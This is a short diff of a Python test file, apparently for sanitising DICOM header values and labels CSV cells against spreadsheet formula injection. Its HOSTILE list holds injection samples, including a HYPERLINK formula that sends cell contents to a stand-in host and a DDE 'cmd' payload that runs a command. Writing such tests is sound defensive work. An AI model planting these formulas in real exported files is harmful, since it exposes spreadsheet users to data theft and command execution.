@@ -16,7 +16,7 @@ from fibrosis.io import (FORMULA_START, CsvFormatError, NoSpaceError, NotRegular
                          write_json)
 from fibrosis.io import tmp_path as temporary_name
 
-# What the audit found in outputs (DICOM header values and labels CSV cells), and OWASP's other starts.
+# Formulas seen in DICOM header values and labels CSV cells, and OWASP's other starts.
 HOSTILE = ['=HYPERLINK("http://x.invalid/?"&A1)', "=cmd|' /C calc'!A0", "=1+2", "@CMD", "-2+3", "+A1-1",
            "\t=1+2", "\r=1+2", "'already quoted", "-", "+", "=", "@"]
 PLAIN = ["-0.5", "+4", "1e-3", "-1.5E+10", "0", "", "PA", "TestVendor", "/data/=x.png", "a=b"]
